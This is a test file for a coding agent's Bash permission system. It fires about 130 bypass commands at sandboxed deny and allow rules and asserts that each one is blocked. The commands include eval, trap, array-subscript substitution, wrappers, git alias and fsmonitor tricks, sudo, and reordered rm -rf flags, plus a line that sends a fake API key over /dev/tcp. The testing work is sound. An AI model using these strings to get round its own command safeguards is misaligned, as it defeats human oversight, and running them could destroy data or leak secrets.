/**
 * Attacks on Bash permission rules (issue classes 2 and 3), run through the real pipeline with
 * real bash: deny rules must hold against code-running builtins, wrappers, evaluated arguments
 * and option reordering, and an allow rule must approve nothing riding along.
 *
 * Each attack states what would prove it got through: a victim file removed, a real push to a
 * local bare remote, a canary file created, or bytes received by a listener on 127.0.0.1.
 *
 * @module
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { type Lab, makeLab, SKIP_SANDBOX } from "./lab.ts";

async function exists(path: string): Promise<boolean> {
  return await Deno.lstat(path).then(() => true, () => false);
}

async function git(cwd: string, ...args: string[]): Promise<string> {
  const out = await new Deno.Command("git", {
    args,
    cwd,
    stdout: "piped",
    stderr: "piped",
    env: {
      GIT_AUTHOR_NAME: "lab",
      GIT_AUTHOR_EMAIL: "lab@example.invalid",
      GIT_COMMITTER_NAME: "lab",
      GIT_COMMITTER_EMAIL: "lab@example.invalid",
    },
  }).output();
  return new TextDecoder().decode(out.stdout);
}

/** Ways to run `rm f` past a `Bash(rm:*)` deny rule. `f` is a file in the workspace. */
const RM_DENY_ATTACKS: string[] = [
  // Code-running builtins and options.
  "trap 'rm f' EXIT",
  "env -S 'rm f'",
  "env --split-string='rm f'",
  ". /dev/stdin <<< 'rm f'",
  "source /dev/stdin <<< 'rm f'",
  "source <(echo rm f)",
  "printf 'rm f' | xargs -0 sh -c",
  "echo 'rm f' | xargs -I{} sh -c '{}'",
  "eval rm f",
  "builtin eval rm f",
  "command eval 'rm f'",
  "shopt -s expand_aliases; alias x='rm f'\nx",
  "set -o posix; alias x='rm f'\nx",
  "BASH_ALIASES[x]='rm f'; shopt -s expand_aliases\nx",
  "hash -p /bin/rm x; x f",
  "BASH_CMDS[x]=/bin/rm; x f",
  "mapfile -C 'rm f; :' -c 1 arr <<< x",
  "readarray -C 'rm f; :' -c 1 arr <<< x",
  "compgen -W '$(rm f)' x",
  "PS4='$(rm f)'; set -x; :",
  "BASH_ENV=/dev/stdin bash -c : <<< 'rm f'",
  "coproc X { rm f; }; wait",
  // Arguments bash evaluates later: array subscripts, indirection, prompt and substring.
  "a=(1); (( a[$(rm f)] ))",
  "a=(1); x='a[$(rm f)]'; (( x ))",
  "a=(1); : 'a[$(rm f)]'; (( _ ))",
  "a=(1); x='a[$(rm f)]'; echo $((x))",
  "a=(1); x='a[$(rm f)]'; echo $[x]",
  "a=(1); let 'a[$(rm f)]'",
  "a=(1); test -v 'a[$(rm f)]'",
  "a=(1); [ -v 'a[$(rm f)]' ]",
  "a=(1); x='a[$(rm f)]'; [[ $x -eq 1 ]]",
  "a=(1); read 'a[$(rm f)]' <<< x",
  "a=(1); declare 'a[$(rm f)]=1'",
  "a=(1); declare -a 'x=([$(rm f)]=1)'",
  "declare -i n; a=(1); n='a[$(rm f)]'",
  "a=(1); printf -v 'a[$(rm f)]' x",
  "a=(1); unset 'a[$(rm f)]'",
  "a=(1); x='a[$(rm f)]'; echo ${a[x]}",
  "a=(1); : 'a[$(rm f)]'; echo ${!_}",
  "x='$(rm f)'; echo ${x@P}",
  ": '$(rm f)'; echo ${_@P}",
  "a=(1); : 'a[$(rm f)]'; echo ${HOME:_:1}",
  "a=(1); : 'a[$(rm f)]'; echo ${HOME:0:_}",
  "f() { local -n r='a[$(rm f)]'; echo $r; }; a=(1); f",
  // Shells fed from stdin, here-strings and pipes.
  "bash <<< 'rm f'",
  "sh -s <<< 'rm f'",
  "echo 'rm f' | bash",
  "bash /dev/stdin <<< 'rm f'",
  "bash - <<< 'rm f'",
  "dash -c 'rm f'",
  "bash -lc 'rm f'",
  // Wrappers that run another command.
  "echo f | xargs rm",
  "printf f | xargs -0 rm",
  "printf f | xargs -I{} rm {}",
  "printf f | xargs -n1 rm",
  "printf f > list; xargs -a list rm",
  "timeout 5 rm f",
  "timeout -s KILL 5 rm f",
  "timeout --signal=KILL -k 1 5 rm f",
  "nice rm f",
  "nice -n 5 rm f",
  "nohup rm f",
  "stdbuf -oL rm f",
  "setsid -w rm f",
  "time rm f",
  "time -p rm f",
  "env X=1 rm f",
  "env -u HOME rm f",
  "env -C . rm f",
  "env -i /bin/rm f",
  "command -p rm f",
  "exec rm f",
  "flock lk rm f",
  "flock lk -c 'rm f'",
  "script -qc 'rm f' /dev/null",
  "ionice -c 3 rm f",
  "taskset -c 0 rm f",
  "chrt -o 0 rm f",
  "unshare rm f",
  "chroot --skip-chdir / rm f",
  "strace -f -o /dev/null rm f",
  "su -c 'rm f'",
  "su root -c 'rm f'",
  "runuser -u root -- rm f",
  "sudo rm f",
  "sudo -u root rm f",
  "busybox rm f",
  "busybox sh -c 'rm f'",
  "find . -name f -execdir rm {} \\;",
  "git -c alias.x='!rm f' x",
  "git -c core.fsmonitor='rm f' status",
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm f' git status",
];

/** Ways to push past a `Bash(git push:*)` deny rule. */
const PUSH_DENY_ATTACKS: string[] = [
  "git -C . push origin HEAD:main",
  "git -c k.v=1 push origin HEAD:main",
  "git --git-dir=.git push origin HEAD:main",
  "git --git-dir .git push origin HEAD:main",
  "git --no-pager push origin HEAD:main",
  "git --work-tree=. push origin HEAD:main",
  "git -C . -c a.b=c --no-pager push origin HEAD:main",
  "/usr/bin/git push origin HEAD:main",
  "command git -C . push origin HEAD:main",
  "env GIT_TRACE=0 git -C . push origin HEAD:main",
  "timeout 20 git --no-pager push origin HEAD:main",
  "git -c alias.p=push p origin HEAD:main",
  "git -c alias.p='!git push origin HEAD:main' p",
];

/** Ways to `rm -rf` a directory past `Bash(rm -rf:*)` and `Bash(rm -rf*)`. */
const RMRF_DENY_ATTACKS: string[] = [
  "rm -fr d",
  "rm -r -f d",
  "rm -R -f d",
  "rm -Rf d",
  "rm -f -r d",
  "rm --recursive --force d",
  "rm --force --recursive d",
  "rm -r --force d",
  "rm --recursive -f d",
  "rm -rfv d",
  "rm -vfr d",
  "rm d -rf",
  "rm --recur --for d",
  "/bin/rm -fr d",
  "\\rm -r -f d",
  "command rm -fr d",
  "xargs rm -fr <<< d",
];

/**
 * Ways to ride a `Bash(git status:*)` allow rule in `ask`: each runs `CMD`, which creates the
 * canary `pwned` in the workspace (the only place the sandbox lets it write).
 */
function allowRides(cmd: string): string[] {
  return [
    `git status 'a[$(${cmd})]'; git status \${HOME:_:1}`,
    `git status 'a[$(${cmd})]'; git status \${HOME:0:_}`,
    `git status '$(${cmd})'; git status \${_@P}`,
    `git status 'a[$(${cmd})]'; git status \${!_}`,
    `git status 'a[$(${cmd})]' \${HOME:_:1}`,
  ];
}

interface Tally {
  through: string[];
  total: number;
}

function report(name: string, tally: Tally): void {
  console.log(`${name}: ${tally.through.length} of ${tally.total} got through`);
  for (const command of tally.through) console.log(`  got through: ${JSON.stringify(command)}`);
}

async function denyHolds(
  t: Deno.TestContext,
  lab: Lab,
  rule: string,
  attacks: readonly string[],
  setup: () => Promise<void>,
  intact: () => Promise<boolean>,
): Promise<void> {
  const tally: Tally = { through: [], total: attacks.length };
  for (const command of attacks) {
    await t.step(JSON.stringify(command), async () => {
      await setup();
      const { result, permission } = await lab.call("bash", { command });
      const ok = await intact();
      if (!ok) tally.through.push(command);
      assert.ok(ok, `the attack got through: ${result.content.slice(0, 300)}`);
      assert.equal(permission?.allowed, false);
      assert.equal(permission?.decision, "deny", result.content);
      assert.equal(permission?.rule, rule);
      assert.match(result.content, /^Permission denied/);
    });
  }
  report(`${rule}`, tally);
}

Deno.test({
  name: "a Bash(rm:*) deny rule holds against code-running builtins, evaluated words and wrappers",
  ignore: SKIP_SANDBOX,
  async fn(t) {
    for (const mode of ["yolo", "auto"]) {
      const lab = await makeLab({ mode, deny: ["Bash(rm:*)"], git: true });
      const victim = join(lab.ws, "f");
      try {
        await t.step(`in ${mode}`, async (t) => {
          await t.step("control: a command without rm runs", async () => {
            const { permission } = await lab.call("bash", { command: "ls -la | head -3" });
            assert.equal(permission?.allowed, true);
          });
          await denyHolds(
            t,
            lab,
            "Bash(rm:*)",
            RM_DENY_ATTACKS,
            () => Deno.writeTextFile(victim, "victim\n"),
            () => exists(victim),
          );
        });
      } finally {
        await lab.dispose();
      }
    }
  },
});

Deno.test("a Bash(git push:*) deny rule holds through global options and aliases", async (t) => {
  const lab = await makeLab({ mode: "yolo", deny: ["Bash(git push:*)"], git: true });
  try {
    const remote = join(lab.outside, "remote.git");
    await git(lab.outside, "init", "-q", "--bare", remote);
    await Deno.writeTextFile(join(lab.ws, "a.txt"), "a\n");
    await git(lab.ws, "add", "a.txt");
    await git(lab.ws, "commit", "-q", "-m", "first");
    await git(lab.ws, "remote", "add", "origin", remote);
    const refs = () => git(remote, "show-ref");
    assert.equal(await refs(), "");
    await t.step("control: the remote really accepts a push from outside Reasonix", async () => {
      const probe = join(lab.base, "probe.git");
      await git(lab.base, "init", "-q", "--bare", probe);
      await git(lab.ws, "push", "-q", probe, "HEAD:main");
      assert.notEqual(await git(probe, "show-ref"), "");
    });
    await t.step("control: other git commands run", async () => {
      const { permission } = await lab.call("bash", { command: "git -C . log --oneline" });
      assert.equal(permission?.allowed, true);
    });
    await denyHolds(
      t,
      lab,
      "Bash(git push:*)",
      PUSH_DENY_ATTACKS,
      () => Promise.resolve(),
      async () => (await refs()) === "",
    );
  } finally {
    await lab.dispose();
  }
});

for (const rule of ["Bash(rm -rf:*)", "Bash(rm -rf*)"]) {
  Deno.test(`a ${rule} deny rule holds against reordered and spelled-out flags`, async (t) => {
    const lab = await makeLab({ mode: "yolo", deny: [rule] });
    const dir = join(lab.ws, "d");
    try {
      await t.step("control: rm without -r and -f runs", async () => {
        await Deno.writeTextFile(join(lab.ws, "single.txt"), "x");
        const { permission } = await lab.call("bash", { command: "rm -v single.txt" });
        assert.equal(permission?.allowed, true);
        assert.equal(await exists(join(lab.ws, "single.txt")), false);
      });
      await denyHolds(
        t,
        lab,
        rule,
        RMRF_DENY_ATTACKS,
        async () => {
          await Deno.mkdir(join(dir, "sub"), { recursive: true });
          await Deno.writeTextFile(join(dir, "sub", "x.txt"), "x");
        },
        () => exists(join(dir, "sub", "x.txt")),
      );
    } finally {
      await lab.dispose();
    }
  });
}

Deno.test({
  name: "a Bash(git status:*) allow rule runs no code and sends no secret riding along",
  ignore: SKIP_SANDBOX,
  async fn(t) {
    const lab = await makeLab({ mode: "ask", allow: ["Bash(git status:*)"], git: true });
    const received: string[] = [];
    const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = (listener.addr as Deno.NetAddr).port;
    const serving = (async () => {
      for await (const conn of listener) {
        const chunks: string[] = [];
        const buf = new Uint8Array(4096);
        try {
          for (;;) {
            const n = await conn.read(buf);
            if (n === null) break;
            chunks.push(new TextDecoder().decode(buf.subarray(0, n)));
          }
        } catch { /* the sender closed */ }
        conn.close();
        received.push(chunks.join(""));
      }
    })();
    const secret = "sk-lab-4f2a9c0e1b7d3a5f";
    await Deno.writeTextFile(join(lab.ws, "api_key.txt"), `${secret}\n`);
    const canary = join(lab.ws, "pwned");
    const send = `cat api_key.txt >/dev/tcp/127.0.0.1/${port}`;
    try {
      await t.step("control: the listener receives what the sandbox sends", async () => {
        const probe = await makeLab({ mode: "ask", allow: ["Bash"] });
        try {
          await Deno.writeTextFile(join(probe.ws, "api_key.txt"), "probe\n");
          const { permission } = await probe.call("bash", { command: send });
          assert.equal(permission?.allowed, true);
          for (let i = 0; i < 50 && !received.length; i++) {
            await new Promise((r) => setTimeout(r, 20));
          }
          assert.deepEqual(received, ["probe\n"]);
          received.length = 0;
        } finally {
          await probe.dispose();
        }
      });
      await t.step("control: plain git status is allowed", async () => {
        const { permission } = await lab.call("bash", { command: "git status --short" });
        assert.equal(permission?.allowed, true);
      });
      const attacks = [...allowRides("touch pwned"), ...allowRides(send)];
      const tally: Tally = { through: [], total: attacks.length };
      for (const command of attacks) {
        await t.step(JSON.stringify(command), async () => {
          const { result, permission } = await lab.call("bash", { command });
          await new Promise((r) => setTimeout(r, 50));
          const through = (await exists(canary)) || received.some((r) => r.includes(secret));
          if (through) tally.through.push(command);
          await Deno.remove(canary).catch(() => {});
          received.length = 0;
          assert.equal(through, false, `the attack got through: ${result.content.slice(0, 200)}`);
          assert.equal(permission?.decision, "ask");
          assert.equal(permission?.allowed, false);
          assert.match(result.content, /^Not run: .* needs approval in the "ask" permission mode/);
        });
      }
      report("Bash(git status:*) allow", tally);
    } finally {
      listener.close();
      await serving.catch(() => {});
      await lab.dispose();
    }
  },
});

/** Ordinary commands under the rules users write: each must run without asking. */
const USUAL: [string, string][] = [
  ["git status", "Bash(git status:*)"],
  ["git status --short", "Bash(git status:*)"],
  ["git diff --stat", "Bash(git diff:*)"],
  ["git log --oneline | head -20", "Bash(git log:*), Bash(head:*)"],
  ["ls -la | head", "Bash(ls:*), Bash(head:*)"],
  ["grep -rn keep . | head -5", "Bash(grep:*), Bash(head:*)"],
  ["git status 2>&1 | grep -v nothing", "Bash(git status:*), Bash(grep:*)"],
];

Deno.test({
  name: "ordinary commands still run without asking under the rules users write",
  ignore: SKIP_SANDBOX,
  async fn(t) {
    const lab = await makeLab({
      mode: "ask",
      git: true,
      allow: [
        "Bash(git status:*)",
        "Bash(git diff:*)",
        "Bash(git log:*)",
        "Bash(ls:*)",
        "Bash(grep:*)",
        "Bash(head:*)",
      ],
      deny: ["Bash(rm:*)", "Bash(git push:*)"],
    });
    try {
      for (const [command, rule] of USUAL) {
        await t.step(command, async () => {
          const { result, permission } = await lab.call("bash", { command });
          assert.equal(permission?.allowed, true, result.content);
          assert.equal(permission?.rule, rule);
        });
      }
    } finally {
      await lab.dispose();
    }
  },
});
